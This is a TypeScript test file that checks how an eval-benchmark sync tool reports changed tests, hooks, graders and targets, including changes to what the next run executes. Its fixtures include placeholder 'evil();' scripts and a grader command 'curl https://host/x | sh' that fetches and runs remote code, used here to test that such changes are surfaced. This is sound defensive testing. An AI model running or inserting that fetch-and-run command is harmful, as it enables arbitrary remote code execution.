import { join } from "node:path";
import { writeTree } from "@agentv/test-support";
import { describe, expect, test } from "vitest";
import { benchmarkHome } from "./testing/benchmark-home.ts";

const one = (criteria = "be right", command = "[node, ../scripts/check.mjs]") => `
workspace:
  hooks:
    before_each: { command: [node, ../scripts/setup.mjs] }
tests:
  - id: first
    input: one
    criteria: ${criteria}
  - id: second
    input: two
    input_files: [data/two.txt]
    assertions: [{ type: code-grader, command: ${command} }]
  - { id: third, input: three, expected_output: "3" }
`;

const files = {
	"evals/one.eval.yaml": one(),
	"evals/data/two.txt": "two\n",
	"evals/external.eval.yaml": "tests: ./cases.yaml\n",
	"evals/cases.yaml": "- { id: a, input: a, criteria: a }\n- { id: b, input: b, criteria: b }\n",
	"evals/untouched.eval.yaml": "tests: [{ id: u, input: u, criteria: u }]\n",
	"scripts/setup.mjs": 'import "./lib/shared.mjs";\n',
	"scripts/lib/shared.mjs": "1;\n",
	"scripts/check.mjs": "2;\n",
	"notes.md": "n\n",
	"targets.yaml": "targets: [{ name: default, provider: mock, response: hi }]\n",
};

type Files = Parameters<ReturnType<typeof benchmarkHome>["publish"]>[0];

/** Returns what a sync of these changes affects, and checks that the preview equals the result. */
async function changes(changed: Files) {
	const home = benchmarkHome(files);
	home.register({});
	await home.sync();
	home.publish(changed);
	const before = home.snapshot() as { files: unknown; head: unknown };
	const plan = await home.plan();
	const after = home.snapshot() as { files: unknown; head: unknown };
	expect([after.files, after.head]).toEqual([before.files, before.head]);
	const result = await home.sync();
	expect(result).toMatchObject({ outcome: "synced", changes: plan.changes });
	return { evals: plan.changes?.evals, executes: plan.changes?.executes };
}

describe("a sync affects", () => {
	test("no eval if only unused files change", async () => {
		expect(await changes({ "notes.md": "changed\n" })).toEqual({ evals: [], executes: [] });
	});

	test("the one test whose text changes", async () => {
		expect(await changes({ "evals/one.eval.yaml": one("be kind") })).toEqual({
			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: ["first"] }],
			executes: [],
		});
	});

	test("the test that refers to a changed file", async () => {
		expect(await changes({ "evals/data/two.txt": "changed\n" })).toMatchObject({
			evals: [{ file: "evals/one.eval.yaml", tests: ["second"] }],
		});
	});

	test("the tests that differ in a file of external tests", async () => {
		const cases =
			"- { id: a, input: a, criteria: a }\n- { id: b, input: changed, criteria: b }\n- { id: c, input: c, criteria: c }\n";
		expect(await changes({ "evals/cases.yaml": cases })).toEqual({
			evals: [{ file: "evals/external.eval.yaml", change: "changed", tests: ["b", "c"] }],
			executes: [],
		});
	});

	test("added and removed evals, also in a new directory", async () => {
		const fresh = "tests: [{ id: n, input: n, assertions: [{ type: code-grader, command: [sh, ./grade.sh] }] }]\n";
		const touched = await changes({
			"more/new.eval.yaml": fresh,
			"more/grade.sh": "echo\n",
			"evals/untouched.eval.yaml": null,
		});
		expect(touched.evals).toEqual([
			{ file: "evals/untouched.eval.yaml", change: "removed", tests: ["u"] },
			{ file: "more/new.eval.yaml", change: "added", tests: ["n"] },
		]);
		expect(touched.executes).toEqual([
			{ kind: "grader", what: "sh ./grade.sh", eval: "more/new.eval.yaml", change: "added" },
			{ kind: "grader", what: "more/grade.sh", eval: "more/new.eval.yaml", change: "added" },
		]);
	});

	test("every test that uses a changed target", async () => {
		const targets = "targets: [{ name: default, provider: cli, command: './agent.sh {PROMPT}' }]\n";
		const touched = await changes({ "targets.yaml": targets, "agent.sh": { content: "#!/bin/sh\n", mode: 0o755 } });
		expect(touched.evals?.map(({ file, tests }) => [file, tests.length])).toEqual([
			["evals/external.eval.yaml", 2],
			["evals/one.eval.yaml", 3],
			["evals/untouched.eval.yaml", 1],
		]);
		expect(touched.executes?.slice(0, 2)).toEqual([
			{ kind: "target", what: "./agent.sh {PROMPT}", eval: "evals/external.eval.yaml", change: "added" },
			{ kind: "target", what: "agent.sh", eval: "evals/external.eval.yaml", change: "added" },
		]);
	});
});

describe("a sync reports changes to what the next run executes:", () => {
	test("a hook's script and its imports", async () => {
		expect(await changes({ "scripts/lib/shared.mjs": "evil();\n" })).toEqual({
			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: [] }],
			executes: [{ kind: "hook", what: "scripts/lib/shared.mjs", eval: "evals/one.eval.yaml", change: "changed" }],
		});
	});

	test("a grader's script, with the test that it grades", async () => {
		expect(await changes({ "scripts/check.mjs": "evil();\n" })).toEqual({
			evals: [{ file: "evals/one.eval.yaml", change: "changed", tests: ["second"] }],
			executes: [{ kind: "grader", what: "scripts/check.mjs", eval: "evals/one.eval.yaml", change: "changed" }],
		});
	});

	test("a command line as written", async () => {
		const { executes } = await changes({ "evals/one.eval.yaml": one("be right", '"curl https://host/x | sh"') });
		expect(executes).toEqual([
			{ kind: "grader", what: "curl https://host/x | sh", eval: "evals/one.eval.yaml", change: "changed" },
		]);
	});
});

test("a sync computes its changes from files with local edits that it keeps", async () => {
	const home = benchmarkHome(files);
	home.register({});
	await home.sync();
	writeTree(home.clone, { "evals/one.eval.yaml": one("mine") });
	home.publish({ "scripts/check.mjs": "3;\n" });
	expect(await home.plan()).toMatchObject({
		changes: { evals: [{ file: join("evals/one.eval.yaml"), tests: ["second"] }] },
	});
});
